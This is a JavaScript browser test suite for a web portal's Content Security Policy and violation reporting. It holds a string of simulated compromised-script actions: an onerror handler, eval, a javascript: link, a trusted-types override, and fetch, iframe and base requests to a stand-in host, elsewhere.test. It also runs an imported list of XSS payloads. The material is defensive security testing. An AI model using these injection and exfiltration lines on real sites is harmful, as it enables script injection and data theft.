// The policy of the portal's pages: what is served, that it stops what it is there to stop, and that
// whatever it stops is heard of. Without this the silence of all other tests would prove nothing.

import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { formSeen, launch, openPage, seen } from '../support/browser.mjs';
import { payloads } from '../support/payloads.mjs';
import { startPortal } from '../support/portal.mjs';
import { serve, strictPolicy } from '../support/static-server.mjs';
import { root } from '../support/tree.mjs';

const mother = '056192000456';

let browser;

before(async () => {
  browser = await launch();
});

after(() => browser?.close());

/** A policy as its directives. */
const directives = (policy) => Object.fromEntries(policy.split(';').map((text) => text.trim().split(/ (.*)/)).map(([name, value = '']) => [name, value]));

test('every page is served with all of it', async () => {
  const portal = await startPortal();
  try {
    const context = await browser.createBrowserContext();
    const page = await openPage(context, { expected: /status of 404/ });
    const served = [];
    page.on('response', (response) => served.push([response.url(), response.headers()['content-security-policy']]));
    await page.goto(`${portal.url}/?next=/forms/all-controls`);
    await Promise.all([page.waitForNavigation(), page.click(`button[value="${mother}"]`)]);
    await formSeen(page);
    for (const path of ['/services', '/catalogue', '/catalogue/1.001193', '/drafts', '/scoreboard', '/nowhere', '/api/nowhere']) await page.goto(portal.url + path);
    const policies = new Set(served.map(([, policy]) => policy));
    assert.equal(policies.size, 1, 'one for all');
    const policy = directives([...policies][0]);
    assert.deepEqual(policy, {
      'default-src': "'none'",
      'script-src': "'self' 'wasm-unsafe-eval'",
      'style-src': "'self'",
      'img-src': "'self'",
      'connect-src': "'self'",
      'form-action': "'self'",
      'base-uri': "'none'",
      'frame-ancestors': "'none'",
      'require-trusted-types-for': "'script'",
      'trusted-types': "'none'",
      'report-uri': '/violations',
    });
    const own = { ...directives(strictPolicy), 'img-src': "'self'" };
    for (const [name, value] of Object.entries(own)) assert.equal(policy[name], value, `${name} of the tests' own server`);
    for (const file of ['/', '/tokhai/element.js', '/tokhai/tokhai_bg.wasm', '/tokhai/texts/vi.json', '/api/session', '/nowhere']) {
      assert.ok(served.some(([url]) => url.startsWith(portal.url + file)), `${file} was served`);
    }
    await context.close();
  } finally {
    await portal.stop();
  }
});

test('the payloads run where nobody minds, and not under the policy', async () => {
  // Those that take over a whole page are left out: others could not be told from them.
  const sharp = payloads.filter((text) => text.includes('__ran=1') && text.length < 1000);
  const answers = Object.fromEntries(sharp.map((text, i) => [`/${i}.html`, `<!doctype html><body><p title="">${text.replaceAll('__ran=1', `__ran=${i}`)}</p>`]));
  answers['/index.html'] = `<!doctype html><link rel="icon" href="data:,">${sharp.map((_, i) => `<iframe src="/${i}.html"></iframe>`).join('')}`;
  const ran = {};
  for (const [name, policy] of [['open', "frame-ancestors 'self'"], ['strict', `${strictPolicy}; frame-src 'self'`]]) {
    const server = await serve(root, answers, policy);
    try {
      const page = await openPage(browser, { expected: /^(script|console|policy)/ });
      ran[name] = new Set();
      page.on('console', (message) => {
        const [, i] = /^script: (\d+)/.exec(message.text()) ?? [];
        if (i) ran[name].add(sharp[i]);
      });
      await page.goto(`${server.url}/index.html`, { waitUntil: 'networkidle0' });
      await page.close();
    } finally {
      await server.stop();
    }
  }
  assert.ok(ran.open.size >= 15, `${ran.open.size} of ${sharp.length} ran`);
  assert.deepEqual([...ran.strict], []);
});

// What a script of ours would do that has been taken over; every line breaks a rule of its own.
const hostile = `
  const attempts = [
    () => { document.body.innerHTML = '<img src=x onerror=__ran=1>canary'; },
    () => { document.createElement('script').text = '__ran=1;"canary"'; },
    () => { trustedTypes.createPolicy('default', { createHTML: (text) => text }); },
    () => { eval('__ran=1;"canary"'); },
    () => { setTimeout('__ran=1;"canary"'); },
    () => { new Image().src = 'http://elsewhere.test/canary'; },
    () => { fetch('http://elsewhere.test/?canary').catch(() => {}); },
    () => { document.body.setAttribute('style', 'background:url(http://elsewhere.test/canary)'); },
    () => { document.head.append(Object.assign(document.createElement('style'), { textContent: '*{color:red}' })); },
    () => { document.body.append(Object.assign(document.createElement('iframe'), { src: 'http://elsewhere.test/canary' })); },
    () => { document.head.append(Object.assign(document.createElement('base'), { href: 'http://elsewhere.test/canary' })); },
    () => { document.body.append(Object.assign(document.createElement('a'), { href: 'javascript:__ran=1', id: 'link' })); link.click(); },
  ];
  for (const attempt of attempts) try { attempt(); } catch {}
  for (const [src, base] of [['javascript:__ran=1', '/api'], ['//elsewhere.test/canary', '//elsewhere.test/canary'], ['data:application/json,{}', 'data:,']]) {
    const form = document.createElement('tokhai-form');
    form.setAttribute('src', src);
    form.setAttribute('base', base);
    form.setAttribute('lang', 'vi');
    form.className = 'taken';
    document.body.append(form);
  }`;

test('what breaks it does nothing, and is heard of without a word of what it said', async () => {
  const portal = await startPortal();
  const context = await browser.createBrowserContext();
  let told;
  try {
    const page = await openPage(context, { expected: /^console: (policy: |.* Content Security Policy|This document requires '|Fetch API cannot load|.*ERR_)/i });
    await page.setRequestInterception(true);
    page.on('request', (request) => {
      if (!request.url().endsWith('/assets/language.js')) return request.continue();
      request.respond({ status: 200, contentType: 'text/javascript', body: hostile });
    });
    await page.goto(`${portal.url}/?next=/forms/all-controls`);
    await Promise.all([page.waitForNavigation(), page.click(`button[value="${mother}"]`)]);
    await seen(page, '.taken:nth-last-of-type(1) .tk-bad');
    const directive = () => new Set(portal.log().match(/(?<=policy violated directive=")[a-z-]+/g));
    const want = ['base-uri', 'connect-src', 'frame-src', 'img-src', 'require-trusted-types-for', 'script-src-elem', 'style-src-attr', 'style-src-elem', 'trusted-types'];
    for (let tries = 0; tries < 50 && directive().size < want.length; tries++) await new Promise((done) => setTimeout(done, 100));
    assert.deepEqual([...directive()].sort(), want);
    assert.match(portal.log(), /blocked="elsewhere\.test"/);
    assert.doesNotMatch(portal.log(), /canary|__ran/);
    assert.equal(await page.$('tokhai-form [style], tokhai-form img'), null);
  } finally {
    await context.close();
    told = await portal.stop().catch((error) => error);
  }
  assert.match(String(told), /policy violated/, 'no other test gets away with it');
});
